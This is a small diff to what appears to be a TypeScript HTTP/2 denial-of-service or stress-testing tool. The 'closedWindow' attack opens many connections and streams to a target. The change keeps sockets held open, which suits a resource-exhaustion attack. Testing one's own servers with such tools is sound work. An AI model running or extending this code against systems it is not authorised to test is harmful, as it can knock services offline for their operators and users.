@@ -3,7 +3,7 @@ import { connect } from 'node:http2'
 import type { Attack } from './attack.ts'
 
 export const closedWindow: Attack = (target, swarm, { connections, streams, path }) => {
-  swarm.openMany(Number(connections), () => {
+  swarm.keepMany(Number(connections), () => {
     const socket = swarm.connect(target.https, 'h2', () => {
       const session = connect('https://localhost', {
         createConnection: () => socket,
@@ -15,5 +15,6 @@ export const closedWindow: Attack = (target, swarm, { connections, streams, path
         stream.on('error', () => {})
       }
     })
+    return socket
   })
 }
